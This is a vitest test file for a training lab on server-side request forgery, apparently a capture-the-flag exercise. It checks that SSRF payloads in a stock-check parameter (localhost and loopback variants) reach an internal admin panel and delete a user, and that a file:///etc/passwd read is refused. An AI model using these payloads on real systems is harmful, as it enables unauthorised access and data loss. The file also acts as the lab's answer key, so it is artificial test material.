import { afterEach, describe, expect, it } from 'vitest';
import { showsFlag, startTestLab } from '../host/test-harness';

describe('lab web-ssrf-stock-check', () => {
  let lab: Awaited<ReturnType<typeof startTestLab>>;
  afterEach(() => lab.close());

  const stockCheck = (stockApi: string) =>
    lab.editor({
      method: 'POST',
      path: '/stock',
      headers: 'Content-Type: application/x-www-form-urlencoded',
      body: `stockApi=${stockApi}`,
    });

  it('is solved by pointing stockApi at the internal admin interface and deleting carlos', async () => {
    lab = await startTestLab('web-ssrf-stock-check');
    const product = await lab.get('/product?id=3');
    expect(product.body).toContain('name="stockApi" value="http://stock.internal:8080/check?id=3"');
    // Recon: the admin interface refuses the learner's own browser.
    const direct = await lab.get('/admin');
    expect(direct.status).toBe(403);
    expect(direct.body).toContain('only reachable from the internal network');
    // Through the stock checker it answers, and lists the delete links.
    const panel = await stockCheck('http://localhost/admin');
    expect(panel.body).toContain('HTTP/1.1 200 OK');
    expect(panel.body).toContain('/admin/delete?username=carlos');
    expect(showsFlag(panel.body, lab.flag)).toBe(false);

    const deleted = await stockCheck('http://localhost/admin/delete?username=carlos');
    expect(deleted.body).toContain('User carlos deleted.');
    expect(showsFlag(deleted.body, lab.flag)).toBe(true);
    // The deletion is kept: carlos is gone from the list afterwards.
    const after = await stockCheck('http://admin.internal/admin');
    expect(after.body).toContain('wiener (customer)');
    expect(after.body).not.toContain('carlos (customer)');
  });

  it('resolves hosts like a real client: 127.1 and [::1] are loopback too', async () => {
    lab = await startTestLab('web-ssrf-stock-check');
    const viaForm = await lab.post('/stock', { stockApi: 'http://127.1/admin/delete?username=carlos' });
    expect(viaForm.body).toContain('http://127.0.0.1/admin/delete?username=carlos');
    expect(showsFlag(viaForm.body, lab.flag)).toBe(true);
    const v6 = await lab.post('/stock', { stockApi: 'http://[::1]/admin' });
    expect(v6.status).toBe(200);
    expect(v6.body).toContain('Admin interface');
  });

  it('shows no flag for an honest stock check, a direct delete, or near misses', async () => {
    lab = await startTestLab('web-ssrf-stock-check');
    const honest = await lab.post('/stock', { stockApi: 'http://stock.internal:8080/check?id=3' });
    expect(honest.status).toBe(200);
    expect(honest.body).toContain('18 units in stock');
    expect(honest.body).not.toContain(lab.flag);

    // Asking the lab itself is refused, and deletes nothing.
    const direct = await lab.get('/admin/delete?username=carlos');
    expect(direct.status).toBe(403);
    expect(direct.body).not.toContain(lab.flag);

    const refused = [
      ['https://localhost/admin/delete?username=carlos', 'Unsupported protocol'],
      ['file:///etc/passwd', 'Unsupported protocol'],
      ['http://localhost:8080/admin/delete?username=carlos', 'Connection refused'],
      ['http://stock.internal/admin/delete?username=carlos', 'Connection refused'],
      ['http://example.com/admin/delete?username=carlos', 'Timed out'],
      ['localhost/admin/delete?username=carlos', 'Invalid URL'],
    ];
    for (const [url, message] of refused) {
      const answer = await stockCheck(url!);
      expect(answer.body).toContain(message);
      expect(answer.body).not.toContain(lab.flag);
    }
    // The right panel, the wrong user.
    const wiener = await stockCheck('http://localhost/admin/delete?username=wiener');
    expect(wiener.body).toContain('User wiener deleted.');
    expect(showsFlag(wiener.body, lab.flag)).toBe(false);
    const panel = await stockCheck('http://localhost/admin');
    expect(panel.body).toContain('carlos (customer)');
  });
});
